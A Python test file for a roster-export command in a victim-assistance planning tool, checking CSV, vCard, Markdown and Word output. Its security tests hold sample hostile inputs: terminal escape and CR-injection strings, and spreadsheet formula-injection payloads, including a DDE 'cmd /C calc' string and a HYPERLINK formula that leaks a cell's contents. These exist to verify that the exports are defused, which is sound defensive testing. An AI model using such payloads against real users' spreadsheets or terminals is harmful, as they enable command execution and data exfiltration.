"""`vaplan export roster`: the contact list as CSV, vCard 3.0, and a one-page call sheet."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
import vobject
import yaml
from docx import Document
from typer.testing import CliRunner

from conftest import ROOT, TODAY, copy_plan, counts_pages
from vaplan.check.checker import check_plan
from vaplan.checklist.build import build_checklist
from vaplan.checklist.roster import Entry, build_roster, normalize_phone
from vaplan.cli.main import app
from vaplan.export.common import checked_plan
from vaplan.export.roster_formats import to_csv, to_vcf
from vaplan.export.roster_sheet import to_docx, to_markdown
from vaplan.render import render_markdown
from vaplan.render.markdown import check_markdown_source
from vaplan.text import phone_text

PLAN = ROOT / "tests" / "data" / "year-plan"


def _roster(public: bool = False, plan: Path = PLAN):
    result = checked_plan(plan, TODAY, ("vaplan", "committee"))
    return build_roster(result, TODAY,
                        public=public)


@pytest.mark.parametrize("written, expected", [
    ("520-555-0101", "+1 520-555-0101"),
    ("(541) 555-0100 ext. 12", "+1 541-555-0100 ext. 12"),
    ("+1 541 555 0102", "+1 541-555-0102"),
    ("5415550103", "+1 541-555-0103"),
    ("+44 20 7946 0958", "+44 20 7946 0958"),
    ("call dispatch, ask for Robin", "call dispatch, ask for Robin"),
    ("555-0100", "555-0100"),  # not a whole number: kept as written
    (None, None),
])
def test_phones_are_written_in_one_international_form(written: str | None,
                                                      expected: str | None) -> None:
    assert normalize_phone(written) == expected


def test_chair_first_then_steering_then_the_rest_in_file_order() -> None:
    assert [e.id for e in _roster().entries] == ["harbor-da", "harbor-oem", "legal-aid",
                                                 "state-voca"]


def _committee_table(markdown: str) -> list[list[str]]:
    """The rows of the checklist's "Planning committee" table, cell by cell."""
    part = markdown.split("## Planning committee", 1)[1].split("\n#", 1)[0]
    rows = [line.strip("|").split(" | ") for line in part.splitlines()
            if line.startswith("| ") and "---" not in line]
    return [[cell.strip().replace("\\|", "|") for cell in row] for row in rows[1:]]


@pytest.mark.parametrize("plan", [PLAN, ROOT / "examples" / "pima-county"])
def test_the_checklist_and_the_contact_list_list_the_same_people(plan: Path) -> None:
    """One roster: the checklist's "Planning committee" table and `vaplan export roster` show
    the same organizations, people and ways to reach them (the checklist in committee.yaml's
    order, the contact list in call order)."""
    result = check_plan(plan, TODAY)
    table = _committee_table(render_markdown(build_checklist(result)))
    rows = [{k: v.removeprefix("'") for k, v in row.items()}  # a cell defused for Excel
            for row in csv.DictReader(io.StringIO(to_csv(build_roster(result, TODAY))))]
    assert len(table) == len(rows) == len(result.plan.committee.members)
    assert [row[0] for row in table] == [m.organization for m in result.plan.committee.members]
    shown = {row[0]: row for row in table}
    for row in rows:
        representative, contact = shown[row["organization"]][1:3]
        assert representative.startswith(row["representative_name"])
        if row["representative_email"]:
            assert row["representative_email"] in contact
        if row["representative_phone"]:
            assert contact.endswith(phone_text(row["representative_phone"]))
        assert shown[row["organization"]][3] == row["disciplines"].replace("; ", ", ")
        assert shown[row["organization"]][6].lower().startswith(row["role"])


@pytest.mark.parametrize("blank", ["   ", "\u00a0", "\x1b[0m"])
def test_a_blank_name_on_the_committee_copy_is_not_said_to_be_left_out(
        tmp_path: Path, blank: str) -> None:
    """"[left out]" is what a public copy says of a person; on the committee's own copy a
    representative whose name is blank (a space, a no-break space pasted from a web page, or
    only a terminal code) is still reached by the phone and email the plan gives."""
    plan = copy_plan(tmp_path, PLAN)
    committee = plan / "committee.yaml"
    data = yaml.safe_load(committee.read_text(encoding="utf-8"))
    person = data["members"][0]["representative"]
    person["name"] = blank
    committee.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    result = check_plan(plan, TODAY)
    row = _committee_table(render_markdown(build_checklist(result)))[0]
    assert row[0] == data["members"][0]["organization"]
    assert "left out" not in row[1] and "left out" not in row[2]
    shown = [w for w in (person.get("email"), phone_text(person.get("phone"))) if w]
    assert shown and all(way in row[2] for way in shown)
    public = _committee_table(render_markdown(build_checklist(result, public=True)))
    assert not any(person.get("email") in cell for row in public for cell in row if cell)


def test_public_copies_of_both_list_the_same_organizations_and_no_one() -> None:
    result = check_plan(PLAN, TODAY)
    markdown = render_markdown(build_checklist(result, public=True))
    table = _committee_table(markdown)
    rows = list(csv.DictReader(io.StringIO(to_csv(build_roster(result, TODAY, public=True)))))
    assert sorted(row[0] for row in table) == sorted(row["organization"] for row in rows)
    assert "Representative" not in markdown.split("## Planning committee")[1].split("\n#")[0]
    assert not any(k.endswith("_name") for k in rows[0])


def test_template_check_reaches_every_roster_field_filled_in() -> None:
    """`vaplan template check` runs a template against sample rosters made from Entry's
    fields: a mistake inside `{% if member.<field> %}` is found for every field, a new one
    included, with no sample written for it by hand."""
    fields = [f.name for f in dataclasses.fields(Entry)]
    source = "{% for member in roster %}\n" + "".join(
        f"{{% if member.{f} %}}{{{{ member.{f}.no_{f} }}}}{{% endif %}}\n" for f in fields
    ) + "{% endfor %}\n"
    problems = check_markdown_source(source, "ours.md")
    assert [re.search(r'no field "no_(\w+)"', p)[1] for p in problems] == fields


def test_csv_has_a_row_per_member_with_both_contacts() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(_roster()))))
    assert len(rows) == 4
    da = rows[0]
    assert da["organization"] == "Harbor County District Attorney | Victim Assistance"
    assert da["disciplines"] == "Prosecutor's office; Victim services"
    assert da["role"] == "chair"
    assert da["representative_phone"] == "+1 541-555-0100 ext. 12"
    assert da["representative_email"] == "slee@harbor-da.example"
    assert da["alternate_name"] == "María José de la Cruz"
    assert da["alternate_phone"] == "+1 541-555-0101"
    assert rows[2]["organization"] == "Coast Legal Aid; Family Law, Unit"


def test_csv_defuses_text_a_spreadsheet_would_run_as_a_formula() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(_roster()))))
    assert rows[3]["representative_name"] == "'=Ari Wolf"
    assert rows[3]["representative_phone"] == "+1 541-555-0103"


def test_vcf_parses_back_as_one_card_per_person() -> None:
    cards = list(vobject.readComponents(to_vcf(_roster())))
    assert [c.fn.value for c in cards] == ["Sam Lee", "María José de la Cruz", "Pat Kim",
                                           "Robin Hale", "=Ari Wolf"]
    sam = cards[0]
    assert sam.version.value == "3.0"
    assert sam.n.value.family == "Lee" and sam.n.value.given == "Sam"
    assert sam.org.value == ["Harbor County District Attorney | Victim Assistance"]
    assert sam.tel.value == "+1 541-555-0100 ext. 12"
    assert sam.email.value == "slee@harbor-da.example"
    assert sam.title.value == "Victim Services Director"
    assert "(chair, steering)" in sam.note.value
    legal = cards[3]
    assert legal.org.value == ["Coast Legal Aid; Family Law, Unit"]
    assert legal.tel.value == "call dispatch, ask for Robin"
    assert len({c.uid.value for c in cards}) == len(cards)


def test_vcf_lines_are_folded_and_end_in_crlf() -> None:
    text = to_vcf(_roster())
    assert text.endswith("END:VCARD\r\n")
    assert all(len(line.encode("utf-8")) <= 75 for line in text.split("\r\n"))
    assert "\n" not in text.replace("\r\n", "")


def test_markdown_call_sheet() -> None:
    text = to_markdown(_roster())
    lines = text.splitlines()
    assert lines[0] == "# Harbor County: planning committee contact list"
    header = next(line for line in lines if line.startswith("| Call | Organization"))
    assert header == ("| Call | Organization | Leads | Role | Disciplines | Representative | "
                      "24-hour phone | Phone | Email | Alternate | Alternate's 24-hour phone | "
                      "Alternate's phone |")
    rows = [line for line in lines if line.startswith("| – | Harbor County District")]
    assert rows == ["| – | Harbor County District Attorney \\| Victim Assistance |  | Chair, Steering | "
                    "Prosecutor's office, Victim services | Sam Lee |  | "
                    "(541) 555-0100 ext. 12 | slee@harbor-da.example | María José de la Cruz |  | "
                    "(541) 555-0101 |"]
    assert "membership reviewed 2026-02-28" in text
    assert "share it only within the committee" in text


def test_markdown_table_has_the_same_number_of_cells_in_every_row() -> None:
    from markdown_it import MarkdownIt

    tokens = MarkdownIt().enable("table").parse(to_markdown(_roster()))
    rows = [t for t in tokens if t.type == "tr_open"]
    cells = sum(1 for t in tokens if t.type in ("th_open", "td_open"))
    assert len(rows) == 5 and cells == 5 * 12


def test_word_call_sheet_reads_back() -> None:
    document = Document(io.BytesIO(to_docx(_roster())))
    section = document.sections[0]
    assert section.page_width > section.page_height  # landscape
    [table] = document.tables
    assert len(table.rows) == 5
    assert [c.text for c in table.rows[0].cells] == [
        "#", "Organization", "Leads", "Person to call", "Other phone or email", "Alternate"]
    assert table.rows[1].cells[4].text.startswith("(541)\xa0555\u20110100")  # never broken
    da = [c.text.replace("\u200b", "").replace("\xa0", " ").replace("\u2011", "-")
          for c in table.rows[1].cells]
    assert da[0] == "–"  # Harbor County has no call tree
    assert da[1] == "Harbor County District Attorney | Victim Assistance (chair, steering)"
    # the person to call, then their 24-hour number (or, loud, that there is none)
    assert da[2:] == ["", "Sam Lee\nno 24-hour number", "(541) 555-0100 ext. 12",
                      "María José de la Cruz\n(541) 555-0101"]
    assert document.paragraphs[0].text == "Harbor County: planning committee contact list"
    assert any(p.text.startswith("Committee only:") for p in document.paragraphs)


def test_word_call_sheet_looks_like_the_other_word_documents() -> None:
    """Made from templates/roster.docx like the checklist: vaplan's document properties, the
    page header naming the community and day, and Page x of y in the footer."""
    document = Document(io.BytesIO(to_docx(_roster())))
    props = document.core_properties
    checklist = Document(ROOT / "templates" / "checklist.docx").core_properties
    assert props.title == "Harbor County: planning committee contact list"
    assert (props.author, props.subject) == (checklist.author, checklist.subject)
    assert props.created.date().isoformat() == "2026-11-28"  # dated the day it was made for
    assert props.author == "vaplan" and props.created.year > 2013  # not python-docx's own
    section = document.sections[0]
    assert section.header.paragraphs[0].text == (
        "Committee only · Harbor County · Planning committee contact list · 2026-11-28")
    footer = section.footer.paragraphs[0].text
    assert footer.startswith("Check this list at every committee meeting")
    with zipfile.ZipFile(io.BytesIO(to_docx(_roster()))) as docx:
        assert "NUMPAGES" in docx.read("word/footer1.xml").decode()
    assert to_docx(_roster()) == to_docx(_roster())  # the same plan and day, the same bytes


def test_public_call_sheet_keeps_organizations_only() -> None:
    roster = _roster(public=True)
    assert roster.fields == ()
    text = to_markdown(roster)
    assert "**Public copy:" in text
    assert "| Organization | Leads | Role | Disciplines |" in text
    assert "share it only within" not in text
    document = Document(io.BytesIO(to_docx(roster)))
    assert any(p.text.startswith("Public copy:") for p in document.paragraphs)
    assert not any("Committee only" in p.text for p in document.paragraphs)
    assert "Committee only" not in document.sections[0].header.paragraphs[0].text
    [table] = document.tables
    assert [c.text for c in table.rows[0].cells] == ["Organization", "Role", "Disciplines",
                                                     "Sector", "Level"]
    cells = " ".join(c.text for row in table.rows for c in row.cells)
    assert "Sam Lee" not in cells and "555" not in cells


def test_public_vcf_has_a_card_per_organization() -> None:
    cards = list(vobject.readComponents(to_vcf(_roster(public=True))))
    assert [c.fn.value for c in cards] == [
        "Harbor County District Attorney | Victim Assistance",
        "Harbor County Emergency Management", "Coast Legal Aid; Family Law, Unit",
        "Oregon DOJ Crime Victim Services"]
    assert all("Public copy" in c.note.value for c in cards)
    assert not any(hasattr(c, "tel") or hasattr(c, "email") for c in cards)


def test_an_empty_committee_gives_an_empty_sheet(tmp_path: Path) -> None:
    from vaplan.edit.starter import init_plan

    init_plan(tmp_path, "Test County", "county", TODAY)
    roster = _roster(plan=tmp_path)
    assert roster.entries == ()
    assert "no members yet" in to_markdown(roster)
    assert to_vcf(roster) == ""
    assert to_csv(roster).count("\r\n") == 1
    document = Document(io.BytesIO(to_docx(roster)))
    assert document.tables == []
    assert any(p.text == "The plan lists no committee members yet." for p in document.paragraphs)


# text from the plan that must not reach a file as it is ----------------------------------------

#: Written with YAML's double-quoted escapes, as a plan can: a bare CR, a terminal colour and
#: title sequence, a bell, a NUL, a C1 control, a direction override.
HOSTILE = {
    "Sam Lee": r"Sam\rBEGIN:VCARD Lee\e[31m\a",
    "Victim Services Director": r"Director \e]0;pwned\aof\0 victims\x85\u202e",
    "Harbor County District Attorney | Victim Assistance": r"Harbor\r\nDA\e[2J\x9b1m",
}


def _hostile_plan(tmp_path: Path) -> Path:
    plan = copy_plan(tmp_path, PLAN)
    text = (plan / "committee.yaml").read_text(encoding="utf-8")
    for plain, hostile in HOSTILE.items():
        text = text.replace(f": {plain}\n", f': "{hostile}"\n')
    (plan / "committee.yaml").write_text(text, encoding="utf-8")
    return plan


def _controls(text: str) -> list[str]:
    """Control characters other than the line ends a format is made of."""
    import unicodedata

    return sorted({repr(c) for c in text.replace("\r\n", "")
                   if unicodedata.category(c) == "Cc" or c in "\u202e"})


def test_control_characters_and_escapes_never_reach_the_vcard(tmp_path: Path) -> None:
    text = to_vcf(_roster(plan=_hostile_plan(tmp_path)))
    assert _controls(text) == []
    assert "\r" not in text.replace("\r\n", "") and "[31m" not in text and "pwned" not in text
    cards = list(vobject.readComponents(text))
    assert len(cards) == 5  # a CR cannot start a card of its own
    assert cards[0].fn.value == "Sam BEGIN:VCARD Lee"
    assert cards[0].title.value == "Director of victims"
    assert cards[0].org.value == ["Harbor DA"]


def test_control_characters_and_escapes_never_reach_the_csv(tmp_path: Path) -> None:
    text = to_csv(_roster(plan=_hostile_plan(tmp_path)))
    assert _controls(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 4
    assert rows[0]["organization"] == "Harbor DA"
    assert rows[0]["representative_name"] == "Sam BEGIN:VCARD Lee"


def test_control_characters_and_escapes_never_reach_the_call_sheet(tmp_path: Path) -> None:
    roster = _roster(plan=_hostile_plan(tmp_path))
    data = to_docx(roster)
    with zipfile.ZipFile(io.BytesIO(data)) as docx:
        xml = docx.read("word/document.xml").decode("utf-8")
    assert _controls(xml.replace("\n", "")) == [] and "pwned" not in xml
    cells = Document(io.BytesIO(data)).tables[0].rows[1].cells
    assert cells[3].text == "Sam BEGIN:VCARD Lee\nno 24-hour number"
    markdown = to_markdown(roster)
    assert _controls(markdown.replace("\n", "")) == []
    assert "| Harbor DA |  | Chair, Steering |" in markdown


@pytest.mark.parametrize("fmt", ["csv", "vcf", "md", "docx"])
def test_cli_exports_a_plan_with_control_characters_in_every_format(tmp_path: Path, fmt: str
                                                                    ) -> None:
    out = tmp_path / f"roster.{fmt}"
    result = CliRunner().invoke(app, ["export", "roster", str(_hostile_plan(tmp_path)), "-f", fmt,
                                      "-o", str(out), "--today", "2026-11-28"])
    assert result.exit_code == 0, result.output
    assert "4 members" in result.output
    data = out.read_bytes()
    if fmt == "docx":
        with zipfile.ZipFile(out) as docx:
            data = docx.read("word/document.xml")
    assert b"\x1b" not in data and b"\x07" not in data and b"\x00" not in data


@pytest.mark.parametrize("written", [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+1+1", "+SUM(1,2)", "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\\t=1+1", "\\r=1+1", " =1+1",
])
def test_csv_neutralises_every_cell_a_spreadsheet_would_run(tmp_path: Path, written: str
                                                           ) -> None:
    plan = copy_plan(tmp_path, PLAN)
    text = (plan / "committee.yaml").read_text(encoding="utf-8")
    quoted = written.replace('"', '\\"')
    (plan / "committee.yaml").write_text(text.replace(": Pat Kim,", f': "{quoted}",')
                                         .replace('"Coast Legal Aid; Family Law, Unit"',
                                                  f'"{quoted}"'), encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(to_csv(_roster(plan=plan)))))
    cells = [rows[1]["representative_name"], rows[2]["organization"]]
    for cell in cells:
        assert cell[0] not in "=+-@\t\r", cell
        assert cell.lstrip("'").lstrip() == cell.lstrip("'")  # nothing before the quote
    assert cells[0].startswith("'")
    assert rows[1]["representative_phone"] == "+1 541-555-0102"  # a phone we wrote stays


# command line ---------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "vcf", "md", "docx"])
def test_cli_writes_each_format(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"roster.{fmt}"
    result = CliRunner().invoke(app, ["export", "roster", str(PLAN), "--format", fmt, "-o",
                                      str(out), "--today", "2026-11-28"])
    assert result.exit_code == 0, result.output
    assert out.stat().st_size > 0
    assert "4 members" in result.output


def test_cli_refusals(tmp_path: Path) -> None:
    runner = CliRunner()
    result = runner.invoke(app, ["export", "roster", str(PLAN), "--format", "docx"])
    assert result.exit_code == 0  # standard output is no terminal here: the call sheet goes
    assert result.stdout_bytes.startswith(b"PK")  # there, as a Word file (a zip)
    out = tmp_path / "r.csv"
    out.write_text("mine")
    result = runner.invoke(app, ["export", "roster", str(PLAN), "-f", "csv", "-o", str(out)])
    assert result.exit_code == 2
    assert out.read_text() == "mine"
    (tmp_path / "vaplan.yaml").write_text("community: X\njurisdiction: {level: city, name: X}\n")
    result = runner.invoke(app, ["export", "roster", str(tmp_path)])
    assert result.exit_code == 2
    assert "committee.yaml is missing" in result.output


def test_cli_prints_markdown_by_default() -> None:
    result = CliRunner().invoke(app, ["export", "roster", str(PLAN), "--today", "2026-11-28"])
    assert result.exit_code == 0
    assert result.stdout.startswith("# Harbor County")


@counts_pages
def test_the_word_call_sheet_of_the_example_prints_on_one_page(tmp_path: Path) -> None:
    plan = ROOT / "examples" / "pima-county"
    if not plan.is_dir():
        pytest.skip("examples/pima-county is not in this checkout")
    (tmp_path / "sheet.docx").write_bytes(to_docx(_roster(plan=plan)))
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                    "--convert-to", "pdf", "--outdir", str(tmp_path), str(tmp_path / "sheet.docx")],
                   check=True, capture_output=True, timeout=300)
    pdf = (tmp_path / "sheet.pdf").read_bytes()
    assert len(re.findall(rb"/Type\s*/Page\b(?!s)", pdf)) == 1


# spreadsheets and address books ----------------------------------------------------------------

def test_csv_starts_with_a_byte_order_mark_so_excel_reads_utf8(tmp_path: Path) -> None:
    # Excel on Windows opens a CSV without the mark in the local code page (Windows-1252):
    # "María" shows as "MarÃ­a". With the mark it reads UTF-8; so do LibreOffice, Numbers,
    # Google Sheets and Python's utf-8-sig, which drop it.
    plan = tmp_path / "plan"
    shutil.copytree(PLAN, plan)
    text = (plan / "committee.yaml").read_text(encoding="utf-8")
    (plan / "committee.yaml").write_text(text.replace("name: Sam Lee", "name: María Peña"),
                                         encoding="utf-8")
    out = tmp_path / "roster.csv"
    result = CliRunner().invoke(app, ["export", "roster", str(plan), "-o", str(out),
                                      "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert "María Peña" in {r["representative_name"] for r in rows}
    assert list(rows[0])[0] == "id"
    assert "MarÃ" in data[3:].decode("cp1252", "replace")  # what Excel showed without it


@pytest.mark.parametrize("written, parts", [
    ("Pastor Denise Okafor", {"prefix": "Pastor", "given": "Denise", "family": "Okafor"}),
    ("Rev. Martin Luther King Jr.", {"prefix": "Rev.", "given": "Martin",
                                     "additional": "Luther", "family": "King", "suffix": "Jr."}),
    ("Chief Ana de la Cruz", {"prefix": "Chief", "given": "Ana", "family": "de la Cruz"}),
    ("Cher", {"given": "Cher", "family": ""}),
])
def test_vcard_names_are_split_by_a_name_parser(tmp_path: Path, written: str,
                                                parts: dict[str, str]) -> None:
    plan = tmp_path / "plan"
    shutil.copytree(PLAN, plan)
    text = (plan / "committee.yaml").read_text(encoding="utf-8")
    (plan / "committee.yaml").write_text(text.replace("name: Sam Lee", f"name: {written}"),
                                         encoding="utf-8")
    [card] = [c for c in vobject.readComponents(to_vcf(_roster(plan=plan)))
              if c.fn.value == written]
    name = card.n.value
    for field in ("prefix", "given", "additional", "family", "suffix"):
        assert getattr(name, field) == parts.get(field, ""), field
